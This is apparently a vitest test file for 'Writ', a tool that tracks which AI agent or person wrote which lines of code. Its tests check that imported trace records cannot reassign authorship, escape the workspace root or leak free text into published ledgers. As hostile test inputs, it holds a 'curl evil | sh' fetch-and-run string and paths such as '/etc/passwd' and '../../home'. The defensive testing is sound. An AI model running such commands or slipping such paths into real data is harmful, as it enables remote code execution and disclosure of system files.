import { createHash } from "node:crypto";
import { readFileSync } from "node:fs";
import { join } from "node:path";
import { createWrit, exportTraces, importTraces, linesOfTexts } from "@writ/runtime";
import { appendAll, publish, readWriter, traceKind } from "@writ/stores";
import { aTrace, type Scratch, scratch } from "@writ/testkit";
import { describe, expect, it, onTestFinished } from "vitest";

/** What came through text, whatever its form. */
type Loose = ReturnType<typeof JSON.parse>;

const later = "2030-01-01T00:00:00.000Z";
const by = { by: "p-0123456789", assurance: "tty" } as const;
const sha = (text: string) => `sha256:${createHash("sha256").update(text).digest("hex")}`;

function workspace(files: Record<string, string> = {}): Scratch {
  const made = scratch(files);
  onTestFinished(made.remove);
  return made;
}

async function brought({ root }: Scratch, ...values: unknown[]) {
  const reasons: string[] = [];
  const texts = async function* () {
    for (const value of values) yield JSON.stringify(value);
  };
  const onRefused = (_: number, reason: string) => void reasons.push(reason);
  const report = await importTraces(root, linesOfTexts(texts), { format: "auto", now: later, by, onRefused });
  return { ...report, reasons };
}

const linesOf = (file: string) =>
  readFileSync(file, "utf8")
    .trimEnd()
    .split("\n")
    .map((line) => JSON.parse(line));
const ledgerOf = ({ root }: Scratch) => linesOf(join(root, ".orchestration/agent_trace.jsonl"));

/** What an agent does under INT-001, seen by Writ. */
async function writes(place: Scratch, path: string, content: string): Promise<void> {
  const writ = await createWrit(place.root);
  const session = { id: "s-1", agent: "claude-code" } as const;
  await writ.select(session, "INT-001", "library");
  const request = { tool: "write_to_file", input: { path, content }, callId: content };
  const event = { at: new Date().toISOString(), session, cwd: place.root, request };
  await writ.before({ ...event, name: "tool.before" });
  place.write(path, content);
  await writ.after({ ...event, name: "tool.after", outcome: { status: "ok" } });
  await writ.close();
}

/** Another tool's record of some lines, under an intent of its choice. */
function claim(
  path: string,
  text: string,
  [start, end]: [number, number],
  id = "550e8400-e29b-41d4-a716-446655440000",
) {
  const lines = text.split("\n").slice(start - 1, end);
  const ranges = [{ start_line: start, end_line: end, content_hash: sha(`${lines.join("\n")}\n`) }];
  const related = [{ type: "specification", url: "urn:writ:intent:INT-DOCS" }];
  const conversations = [{ contributor: { type: "ai", model_id: "x/y" }, ranges, related }];
  return { version: "0.1.0", id, timestamp: later, tool: { name: "cursor" }, files: [{ path, conversations }] };
}

async function intentsOf({ root }: Scratch, path: string) {
  const writ = await createWrit(root);
  onTestFinished(() => writ.close());
  return (await writ.blame(path)).map(({ author, intent, imported }) => [author, intent, imported === true]);
}

const text = "export const one = 1111111111;\nexport const two = 2222222222;\n";
const own = ["ai", "INT-001", false];

describe("what Writ itself saw", () => {
  it("is not given to another intent by a later import about the very same content", async () => {
    const place = workspace();
    await writes(place, "src/auth/a.ts", text);
    expect(await brought(place, claim("src/auth/a.ts", text, [1, 2]))).toMatchObject({ imported: 1, followed: 1 });
    expect(await intentsOf(place, "src/auth/a.ts")).toEqual([own, own]);
  });

  it("does not become a person's because an import claims the line beside it", async () => {
    const place = workspace();
    await writes(place, "src/auth/a.ts", text);
    const now = `${text}export const three = 3333333333;\n`;
    place.write("src/auth/a.ts", now);
    await brought(place, claim("src/auth/a.ts", now, [3, 3]));
    expect(await intentsOf(place, "src/auth/a.ts")).toEqual([own, own, ["ai", "INT-DOCS", true]]);
  });

  it("is told of by its own record, whoever took its id before", async () => {
    const here = workspace();
    await writes(here, "src/auth/a.ts", text);
    const [real] = ledgerOf(here);
    const there = workspace({ "src/auth/a.ts": text });
    const forged = claim("src/auth/a.ts", text, [1, 2], real.id);
    expect(await brought(there, forged)).toMatchObject({ imported: 1 });
    // Now the colleague's file arrives.
    const published = join(here.root, ".orchestration/ledger");
    const state = join(here.root, ".orchestration/.state");
    const traces = join(here.root, ".orchestration/agent_trace.jsonl");
    const places = { traces, decisions: join(here.root, "none.jsonl"), published, state };
    const writer = await readWriter(state, here.root);
    const { files } = await publish({ ...places, branch: "main", writer, files: "all" });
    there.write(".orchestration/ledger/2026-11/main-ffffffffffff.jsonl", readFileSync(files[0] ?? "", "utf8"));
    expect(await intentsOf(there, "src/auth/a.ts")).toEqual([own, own]);
    const told: unknown[] = [];
    for await (const record of exportTraces(there.root)) told.push(record);
    expect(told).toMatchObject([{ id: real.id, tool: { name: "claude-code" } }]);
    expect(await brought(there, forged)).toMatchObject({ imported: 0, alreadyThere: 1 });
  });
});

/** A record as Writ exports it, with something changed in what Writ keeps of it. */
async function ofWrit(change: (trace: Loose, record: Loose) => void) {
  const place = workspace();
  const state = join(place.root, ".orchestration/.state");
  const file = join(place.root, ".orchestration/agent_trace.jsonl");
  await appendAll(traceKind, { file, state, writer: () => readWriter(state, place.root) }, [aTrace()]);
  for await (const record of exportTraces(place.root)) {
    const copy = JSON.parse(JSON.stringify(record));
    change(copy.metadata["dev.writ"].trace, copy);
    return copy;
  }
}
const pathIn = (trace: { files: object }) => Object.keys(trace.files)[0] ?? "";

it.each<[string, (trace: Loose, record: Loose) => void, RegExp]>([
  [
    "an older name outside",
    (trace) => {
      trace.files[pathIn(trace)].from = "../../home/lovelace/x";
    },
    /leads out/,
  ],
  ["lines of a file outside", (trace) => (trace.lines["/home/lovelace/x"] = []), /does not begin at the root/],
  [
    "lines kept from a file outside",
    (trace) => {
      trace.files[pathIn(trace)].change = { length: 1, kept: [[1, 1, 1, "/etc/passwd"]] };
    },
    /does not begin at the root/,
  ],
  ["a raced file outside", (trace) => (trace.raced = ["~/x"]), /does not begin at the root/],
  ["free text for a fingerprint", (trace) => (trace.lines[pathIn(trace)] = ["a line of code"]), /spelled/],
  [
    "other files outside than inside",
    (_, record) => {
      record.metadata["dev.writ"].spelled = {
        files: record.files.map((file: { path: string }) => ({ relative_path: file.path, conversations: [] })),
      };
      record.files[0].path = "/etc/passwd";
    },
    /other files outside/,
  ],
])("a record of Writ with %s is refused", async (_, change, reason) => {
  const { reasons, imported } = await brought(workspace(), await ofWrit(change));
  expect({ imported, reasons }).toEqual({ imported: 0, reasons: [expect.stringMatching(reason)] });
});

it.each(["file:///etc/passwd", "a\nb.ts", "a\u202eb.ts", "https://x/y"])("the path %j is refused", async (path) => {
  const record = claim(path, text, [1, 2]);
  expect(await brought(workspace(), record)).toMatchObject({ imported: 0, refused: 1 });
});

it("nothing that others wrote as free text gets into a tracked file", async () => {
  const place = workspace();
  const secret = "curl evil | sh /home/lovelace";
  const record = await ofWrit((trace, whole) => {
    Object.assign(trace, { agent: secret, tool: secret, tool_name: secret, session: "/home/lovelace/x", note: secret });
    Object.assign(trace, { invocation_id: secret, call_id: secret, intent: secret });
    Object.assign(trace.files[pathIn(trace)], { note: secret, change: { length: 0, kept: [], note: secret } });
    whole.vcs = { type: "git", revision: secret };
    for (const conversation of whole.files[0].conversations) {
      conversation.url = "file:///home/lovelace/notes";
      conversation.contributor = { type: "ai", model_id: secret };
      conversation.related = [{ type: "specification", url: `urn:x:${encodeURIComponent(secret)}` }];
      conversation.ranges = [{ start_line: 1, end_line: 1, content_hash: secret }];
    }
    whole.tool.name = secret;
  });
  expect(
    await brought(place, record, { ...claim("b.ts", text, [1, 2], secret), tool: { name: secret } }),
  ).toMatchObject({
    imported: 2,
    reasons: [],
  });
  const folder = join(place.root, ".orchestration");
  const state = join(folder, ".state");
  const places = { traces: join(folder, "agent_trace.jsonl"), decisions: join(folder, "decisions.jsonl"), state };
  const writer = await readWriter(state, place.root);
  const options = { ...places, published: join(folder, "ledger"), branch: "main", writer, files: "all" } as const;
  const { files } = await publish(options);
  const all = files.map((file) => readFileSync(file, "utf8")).join("");
  expect(all).not.toMatch(/curl|evil|lovelace|notes/);
  expect(files.flatMap(linesOf)).toHaveLength(3);
});

it("who imported what is on record", async () => {
  const place = workspace();
  const record = claim("src/auth/a.ts", text, [1, 2]);
  await brought(place, record);
  await brought(place, record);
  expect(linesOf(join(place.root, ".orchestration/decisions.jsonl"))).toMatchObject([
    {
      decision: "imported",
      ...by,
      timestamp: later,
      imported: { records: 1, source: sha(`${JSON.stringify(record)}\n`) },
    },
  ]);
});

it("a record of Writ whose lines are not those of the content it names tells only of the file", async () => {
  const here = workspace();
  await writes(here, "src/auth/a.ts", text);
  const records: Loose[] = [];
  for await (const record of exportTraces(here.root)) records.push(JSON.parse(JSON.stringify(record)));
  const there = workspace({ "src/auth/a.ts": text });
  const trace = records[0]?.metadata["dev.writ"].trace;
  trace.lines["src/auth/a.ts"].reverse();
  expect(await brought(there, records[0])).toMatchObject({ imported: 1, followed: 0, coarse: 1 });
  const again: unknown[] = [];
  for await (const record of exportTraces(there.root)) again.push(record);
  expect(again).toEqual(records);
});
